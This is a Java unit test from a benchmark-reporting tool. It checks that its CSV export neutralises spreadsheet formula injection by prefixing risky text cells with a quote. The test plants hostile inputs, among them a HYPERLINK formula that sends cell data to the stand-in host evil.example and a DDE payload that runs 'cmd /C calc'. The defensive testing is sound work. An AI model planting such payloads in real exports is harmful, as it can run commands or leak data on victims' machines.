package dev.prism.report;

import dev.prism.Results;
import dev.prism.RunResult;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A set named after a directory another user made ({@code =HYPERLINK(…)}), or a result document planted with such a
 * benchmark or file system, was written into the CSV as is: a spreadsheet opening it ran the formula (issue 55). Now a
 * text cell that begins with {@code =}, {@code +}, {@code -}, {@code @}, tab or CR gets a single quote before it, as
 * OWASP advises; PRISM's own numbers stay numbers.
 */
class CsvInjectionTest {
    private static final Path CORE_GOLDEN = Path.of("../prism-core/src/test/resources/golden");

    @TempDir
    Path work;

    @Test
    void textCellsThatASpreadsheetWouldRun_areQuotedAsText_andTheNumbersStayNumbers() throws IOException {
        String json = Files.readString(CORE_GOLDEN.resolve("run-pass.json"))
                .replace("\"benchmark\" : \"create_files\"", "\"benchmark\" : \"@SUM(1+1)*cmd|' /C calc'!A0\"")
                .replace("\"filesystemType\" : \"nfs4\"", "\"filesystemType\" : \"-2+3\"");
        Path planted = Files.writeString(work.resolve("01-planted-t1.json"), json);
        Map<String, List<RunResult>> sets = new LinkedHashMap<>();
        sets.put("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", Results.load(CORE_GOLDEN.resolve("run-pass.json")));
        sets.put("+1", Results.load(planted));
        sets.put("\tx", Results.load(CORE_GOLDEN.resolve("run-pass.json")));
        sets.put("\rx", Results.load(CORE_GOLDEN.resolve("run-pass.json")));
        sets.put("plain-set", Results.load(CORE_GOLDEN.resolve("run-pass.json")));
        Path csv = work.resolve("r.csv");
        Report.of(sets).writeCsv(csv);
        String text = Files.readString(csv);

        assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",")
                .contains("\"'+1\",\"'@SUM(1+1)*cmd|' /C calc'!A0\",").contains(",\"'-2+3\"\n")
                .contains("\"'\tx\",").contains("\"'\rx\",").contains("\"plain-set\",\"create_files\",");
        for (List<String> row : rows(text).subList(1, rows(text).size())) {
            for (String cell : row) {
                if (cell.startsWith("\"")) {
                    assertThat(cell.substring(1)).as(row.toString()).doesNotStartWith("=").doesNotStartWith("+")
                            .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
                } else {
                    assertThat(cell).as(row.toString()).matches("-?[0-9]+(\\.[0-9]+)?|NaN");
                }
            }
        }
    }

    /** @return the CSV's rows, each cell as written (quotes kept), quoted cells holding commas and line breaks */
    private static List<List<String>> rows(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                cell.append(c);
                if (c == '"' && (i + 1 == csv.length() || csv.charAt(i + 1) != '"')) {
                    quoted = false;
                } else if (c == '"') {
                    cell.append(csv.charAt(++i));
                }
            } else if (c == '"') {
                quoted = true;
                cell.append(c);
            } else if (c == ',' || c == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    rows.add(row);
                    row = new ArrayList<>();
                }
            } else {
                cell.append(c);
            }
        }
        return rows;
    }
}
